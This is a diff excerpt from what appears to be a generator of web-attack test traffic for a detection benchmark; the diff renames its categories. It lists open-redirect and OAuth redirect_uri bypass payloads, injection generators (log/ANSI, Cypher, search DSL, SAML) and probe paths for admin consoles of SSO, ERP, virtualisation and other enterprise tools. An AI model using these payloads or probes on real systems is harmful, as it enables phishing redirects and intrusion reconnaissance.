+    Production("unseen-protocols.saml.tricks", "other", _saml_tricks, ("xml", "form", "json")),
     # open redirects and OAuth redirect_uri values that leave the site
-    Production("exam4.redirect.open", "other", lambda r: r.choice((
+    Production("unseen-protocols.redirect.open", "other", lambda r: r.choice((
         f"//{(h := _lure(r))}/", f"/\\{h}", f"/%09/{h}", f"/%2f%2f{h}", f"https:{h}", f"//{h}%2f%2e%2e", f"\\/\\/{h}/", f"/%5c{h}", f"//{h}%E3%80%82com",
         f"https://{_site(r)}.{h}/", f"https://{h}?{_site(r)}", f"https://{h}#{_site(r)}", f"/{r.choice(('login', 'out'))}/..//{h}", f"%68%74%74%70%73%3a%2f%2f{h}")), ("query", "form")),
-    Production("exam4.redirect.oauth", "other", lambda r: r.choice((
+    Production("unseen-protocols.redirect.oauth", "other", lambda r: r.choice((
         f"https://{(s := _site(r))}.{(h := _lure(r))}/callback", f"https://{s}/callback/../../logout?next=https://{h}/",
         f"https://{s}/oauth/callback%2f..%2f..%2fredirect%3furl%3dhttps%3a%2f%2f{h}", f"https://{h}#@{s}/cb", f"https://{s}%40{h}/cb",
         f"https://{s}/cb&redirect_uri=https://{h}/cb", f"https://{h}/cb?state=x&client_id=web&response_type=token",
         f"https://{s}@{h}/callback", f"http://localhost.{h}/cb")), ("query", "form")),
     # log injection: terminal escapes and forged lines for whoever tails the log
-    Production("exam4.logi.ansi", "other", _ansi, ("query", "form", "json", "header")),
+    Production("unseen-protocols.logi.ansi", "other", _ansi, ("query", "form", "json", "header")),
     # Cypher (Neo4j): breaking out of a string or map into MATCH, UNION, CALL and LOAD CSV
-    Production("exam4.cypher.injection", "other", _cypher, ("query", "form", "json")),
+    Production("unseen-protocols.cypher.injection", "other", _cypher, ("query", "form", "json")),
     # search engines: Elasticsearch/OpenSearch query DSL where a term belongs, Lucene syntax and Solr local parameters
-    Production("exam4.searchq.es_dsl", "other", _es_dsl, ("json", "query", "form")),
-    Production("exam4.searchq.lucene_solr", "other", _lucene_solr, ("query", "form", "json")),
+    Production("unseen-protocols.searchq.es_dsl", "other", _es_dsl, ("json", "query", "form")),
+    Production("unseen-protocols.searchq.lucene_solr", "other", _lucene_solr, ("query", "form", "json")),
 )
 
 # ---------------------------------------------------------------------------- probes
 #
-# What scanners hunt that neither the sides' families nor the two earlier exams' name: identity providers and SSO
+# What scanners hunt that neither the sides' families nor the earlier measurement splits' name: identity providers and SSO
 # servers, low-code and workflow-automation tools, message brokers' consoles, data platforms, virtualisation managers,
 # ERP systems, and IT service-management and remote-management tools.
 PROBE_PATHS: tuple[tuple[str, tuple[str, ...]], ...] = (
-    ("exam4.identity", ("/auth/admin/master/console/", "/realms/master/protocol/openid-connect/auth?client_id=security-admin-console",
+    ("unseen-protocols.identity", ("/auth/admin/master/console/", "/realms/master/protocol/openid-connect/auth?client_id=security-admin-console",
                         "/adfs/ls/idpinitiatedsignon.aspx", "/adfs/services/trust/2005/usernamemixed", "/idp/profile/SAML2/Redirect/SSO",
                         "/idp/shibboleth", "/simplesaml/module.php/core/frontpage_config.php", "/simplesaml/saml2/idp/metadata.php",
                         "/cas/login?service=http://127.0.0.1/", "/if/flow/initial-setup/", "/api/v3/root/config/", "/ui/login/loginname",
                         "/dex/.well-known/openid-configuration", "/oam/server/opensso/sessionservice", "/openam/oauth2/..;/ccversion/Version",
                         "/nidp/app/login", "/siteminderagent/forms/login.fcc", "/affwebservices/public/saml2sso", "/idp/startSSO.ping")),
-    ("exam4.automation", ("/rest/settings", "/rest/login", "/rest/workflows", "/flows", "/settings/user", "/api/v1/admin/env",
+    ("unseen-protocols.automation", ("/rest/settings", "/rest/login", "/rest/workflows", "/flows", "/settings/user", "/api/v1/admin/env",
                           "/api/v1/db/auth/user/me", "/api/system/environment", "/api/v1/flags", "/nifi-api/flow/current-user",
                           "/nifi-api/system-diagnostics", "/nifi/", "/api/v1/configs", "/api/admin/settings", "/api/v1/namespaces?pageSize=100",
                           "/st2/api/v1/actions", "/api/w/admins/workspaces/list")),
-    ("exam4.brokers", ("/api/overview", "/api/whoami", "/api/definitions", "/admin/queues.jsp",
+    ("unseen-protocols.brokers", ("/api/overview", "/api/whoami", "/api/definitions", "/admin/queues.jsp",
                        "/api/jolokia/read/org.apache.activemq:type=Broker,brokerName=localhost", "/console/jolokia/", "/api/clusters", "/v3/clusters",
                        "/api/cluster/overview", "/varz", "/connz?subs=1", "/admin/v2/clusters", "/admin/v2/persistent/public/default",
                        "/api/v5/status", "/api/v4/brokers", "/cluster/list.query", "/commands/stat", "/api/topics?showInternal=true")),
-    ("exam4.data_platforms", ("/webhdfs/v1/?op=LISTSTATUS", "/jmx?qry=Hadoop:service=NameNode,name=NameNodeInfo", "/ws/v1/cluster/info",
+    ("unseen-protocols.data_platforms", ("/webhdfs/v1/?op=LISTSTATUS", "/jmx?qry=Hadoop:service=NameNode,name=NameNodeInfo", "/ws/v1/cluster/info",
                               "/dfshealth.html", "/conf", "/jobs/overview", "/jobmanager/logs", "/api/notebook", "/api/interpreter/setting",
                               "/api/v1/database/", "/superset/welcome/", "/api/session/properties", "/api/setup/validate", "/api/data_sources",
                               "/v1/info", "/ui/api/cluster", "/hue/accounts/login", "/status/properties", "/kylin/api/admin/config")),
-    ("exam4.virtualization", ("/ui/vropspluginui/rest/services/uploadova", "/sdk/vimServiceVersions.xml", "/analytics/telemetry/ph/api/hyper/send?_c&_i=test",
+    ("unseen-protocols.virtualization", ("/ui/vropspluginui/rest/services/uploadova", "/sdk/vimServiceVersions.xml", "/analytics/telemetry/ph/api/hyper/send?_c&_i=test",
                               "/websso/SAML2/Metadata/vsphere.local", "/mob/", "/folder?dcPath=ha-datacenter", "/api2/json/version",
                               "/api2/json/access/ticket", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=", "/SAAS/auth/login", "/portal/info.jsp",
                               "/broker/xml", "/casa/nodes/thumbprints", "/suite-api/api/versions/current", "/PrismGateway/services/rest/v1/cluster",
                               "/ovirt-engine/api", "/session_login.cgi", "/virtual-server/index.cgi")),
-    ("exam4.erp", ("/sap/public/info", "/sap/bc/gui/sap/its/webgui", "/irj/portal", "/developmentserver/metadatauploader", "/sap/admin/public/default.html",
+    ("unseen-protocols.erp", ("/sap/public/info", "/sap/bc/gui/sap/its/webgui", "/irj/portal", "/developmentserver/metadatauploader", "/sap/admin/public/default.html",
                    "/sap/bc/soap/rfc", "/ctc/servlet/com.sap.ctc.util.ConfigServlet", "/OA_HTML/AppsLocalLogin.jsp", "/OA_HTML/SyncServlet",
                    "/OA_HTML/BneViewerXMLService?bne:queryxml=", "/OA_HTML/configurator/UiServlet", "/psp/ps/?cmd=login", "/PSIGW/RESTListeningConnector/PSFT_HR/",
                    "/web/database/manager", "/web/database/selector", "/web/webclient/version_info", "/api/method/frappe.auth.get_logged_user",
                    "/jde/E1Menu.maf", "/dolibarr/admin/")),
-    ("exam4.itsm", ("/ServiceDesk/servlets/FetchFile", "/servlets/FetchFile", "/RestAPI/ImportTechnicians", "/Orion/Login.aspx",
+    ("unseen-protocols.itsm", ("/ServiceDesk/servlets/FetchFile", "/servlets/FetchFile", "/RestAPI/ImportTechnicians", "/Orion/Login.aspx",
                     "/SolarWinds/InformationService/v3/Json/Query", "/helpdesk/WebObjects/Helpdesk.woa", "/vsapres/web20/core/login.aspx",
                     "/front/central.php", "/ajax/getDropdownValue.php", "/scp/login.php", "/NoAuth/Login.html", "/api/v1/getting_started", "/otrs/index.pl",
                     "/otrs/public.pl", "/pages/UI.php", "/JSSResource/computers", "/meshagents", "/dms/", "/api/v3/core/version/")),
